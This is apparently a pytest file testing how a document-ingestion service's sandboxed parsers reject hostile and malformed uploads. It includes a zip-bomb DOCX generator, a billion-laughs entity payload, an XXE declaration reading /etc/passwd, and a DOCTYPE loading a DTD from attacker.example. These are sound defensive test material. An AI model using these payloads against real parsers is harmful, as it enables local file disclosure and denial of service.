"""Hostile and broken uploads, through the real parsers in the real sandbox.

Each ends as a ``PermanentProcessingError`` with a reason a person can act on, or, where that
is the right outcome (a UTF-16 text, a cp1252 page, a PDF with permission flags), is read
correctly. The files in ``shared/data/docs/bad`` are taken as they are; the others are made
here: zip bombs, XML entity bombs, a truncated PDF, binary bytes named ``.txt``, a 1 MB line.
"""

from __future__ import annotations

import io
import resource
import zipfile
from pathlib import Path

import pytest

from ragline_common.adapters.embedder import HashEmbedder
from ragline_common.errors import PermanentProcessingError
from ragline_ingestion.domain.chunking import ChunkingLimits, chunk_document
from ragline_ingestion.domain.parsing import DOCX, ParseLimits, default_parsers
from ragline_ingestion.domain.parsing.sandbox import ParseSandbox

_MB = 2**20
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
_DOCUMENT_HEAD = f'<w:document xmlns:w="{_W}"><w:body><w:p><w:r><w:t>'.encode()
_DOCUMENT_TAIL = b"</w:t></w:r></w:p></w:body></w:document>"


def _docx(document_xml: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", _CONTENT_TYPES)
        package.writestr("_rels/.rels", _RELS)
        package.writestr("word/document.xml", document_xml)
    return buffer.getvalue()


def _zip_bomb_docx(inflated_mb: int) -> bytes:
    """A valid DOCX whose one paragraph inflates to ``inflated_mb`` of text (~1000:1)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as package:
        package.writestr("[Content_Types].xml", _CONTENT_TYPES)
        package.writestr("_rels/.rels", _RELS)
        with package.open("word/document.xml", "w", force_zip64=True) as part:
            part.write(_DOCUMENT_HEAD)
            block = b"a" * _MB
            for _ in range(inflated_mb):
                part.write(block)
            part.write(_DOCUMENT_TAIL)
    return buffer.getvalue()


def _outcome(content_type: str, content: bytes, *, limits: ParseLimits | None = None) -> str:
    """What the job would say: ``indexed`` or its failure reason (parse, then chunk)."""
    parser = default_parsers(limits).parser_for(content_type)
    try:
        document = ParseSandbox(memory_mb=512, timeout_s=20).run(parser, content)
        chunk_document(
            document,
            count_tokens=HashEmbedder().count_tokens,
            limits=ChunkingLimits(max_tokens=254, overlap_tokens=32, max_chunks=5000),
        )
    except PermanentProcessingError as exc:
        return exc.detail
    return "indexed"


# --- the shared bad/ folder ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content_type", "expected"),
    [
        ("password.pdf", "application/pdf", "the PDF is password-protected"),
        ("empty.txt", "text/plain", "document contains no text"),
        ("copy-protected.pdf", "application/pdf", "indexed"),
        ("failure-after-repair.pdf", "application/pdf", "indexed"),
        ("fake-text-utf-16.txt", "text/plain", "indexed"),
        ("fake-html-cp1252.html", "text/html", "indexed"),
    ],
)
def test_shared_bad_files_fail_with_a_reason_or_are_read(
    shared_docs: Path, name: str, content_type: str, expected: str
) -> None:
    assert _outcome(content_type, (shared_docs / "bad" / name).read_bytes()) == expected


def test_every_file_in_the_bad_folder_is_covered(shared_docs: Path) -> None:
    covered = {
        "password.pdf",
        "empty.txt",
        "copy-protected.pdf",
        "failure-after-repair.pdf",
        "fake-text-utf-16.txt",
        "fake-html-cp1252.html",
    }
    assert {path.name for path in (shared_docs / "bad").iterdir()} <= covered


# --- generated ----------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_by_its_declared_size_before_inflating() -> None:
    outcome = _outcome(DOCX, _zip_bomb_docx(64), limits=ParseLimits(max_decompressed_bytes=8 * _MB))
    assert outcome == (
        "the document expands to more than 8 MB when decompressed (the limit guards against "
        "zip bombs)"
    )


def test_a_zip_bomb_under_a_lax_limit_hits_the_memory_cap_in_the_child_only() -> None:
    bomb = _zip_bomb_docx(400)
    assert len(bomb) < _MB
    parser = default_parsers(ParseLimits(max_decompressed_bytes=2**31)).parser_for(DOCX)
    peak_before_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    with pytest.raises(PermanentProcessingError) as caught:
        ParseSandbox(memory_mb=200, timeout_s=30).run(parser, bomb)
    assert caught.value.detail == "the document needs more than 200 MB to parse"
    peak_after_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    assert peak_after_mb - peak_before_mb < 50


@pytest.mark.parametrize(
    "doctype",
    [
        # Billion laughs: each entity ten of the previous, 10^9 "lol"s from a few hundred bytes.
        '<!DOCTYPE w:document [<!ENTITY lol "lol">'
        + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(2, 10)).replace(
            "&lol1;", "&lol;"
        )
        + "]>",
        # External entity: would read a local file into the document.
        '<!DOCTYPE w:document [<!ENTITY secret SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE w:document SYSTEM "http://attacker.example/evil.dtd">',
    ],
)
def test_xml_entity_declarations_are_refused_not_expanded(doctype: str) -> None:
    document = doctype.encode() + _DOCUMENT_HEAD + b"&lol9;" + _DOCUMENT_TAIL
    assert _outcome(DOCX, _docx(document)) == (
        "the document contains an XML document type declaration, which Word files never "
        "have; it is refused as a possible XML entity attack"
    )


def test_a_truncated_pdf_is_refused(shared_docs: Path) -> None:
    content = (shared_docs / "pdf" / "normal_4pages.pdf").read_bytes()
    assert _outcome("application/pdf", content[: len(content) // 2]) == (
        "the PDF is incomplete (it has no end-of-file marker); it was probably cut off during "
        "upload or download"
    )


@pytest.mark.parametrize(
    ("content_type", "content", "expected"),
    [
        ("text/plain", bytes(range(256)) * 64, "the file is not text (it looks binary); upload it "
         "with its real content type"),
        ("application/pdf", b"GIF89a" + bytes(2000), "the file is not a PDF"),
        ("application/pdf", b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
         "the PDF is damaged and cannot be read"),
        (DOCX, b"%PDF-1.7 not a zip", "the file is not a valid Word document (it is not a ZIP "
         "package)"),
        (DOCX, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), "the document is "
         "password-protected or in the old binary .doc format; save it as an unprotected .docx"),
        (DOCX, _docx(_DOCUMENT_HEAD + b"unclosed"), "the Word document is damaged "
         "(word/document.xml cannot be read)"),
    ],
)  # fmt: skip
def test_files_that_are_not_what_they_claim_fail_with_a_reason(
    content_type: str, content: bytes, expected: str
) -> None:
    assert _outcome(content_type, content) == expected


def test_a_one_megabyte_single_line_fails_with_a_reason() -> None:
    line = (b"Ducks paddle on the lake all day long. " * 30_000)[:_MB]
    with pytest.raises(PermanentProcessingError) as refused:
        ParseSandbox(memory_mb=512, timeout_s=10).run(
            default_parsers().parser_for("text/plain"), line
        )
    assert refused.value.code == "line_too_long"
    assert "line 1 is 1048576 characters long" in refused.value.detail


def test_long_lines_within_the_limit_are_read_whole() -> None:
    line = (b"Ducks paddle on the lake all day long. " * 30_000)[:_MB]
    parsers = default_parsers(ParseLimits(max_line_chars=2 * _MB))
    document = ParseSandbox(memory_mb=512, timeout_s=10).run(parsers.parser_for("text/plain"), line)
    assert document.text == line.decode()
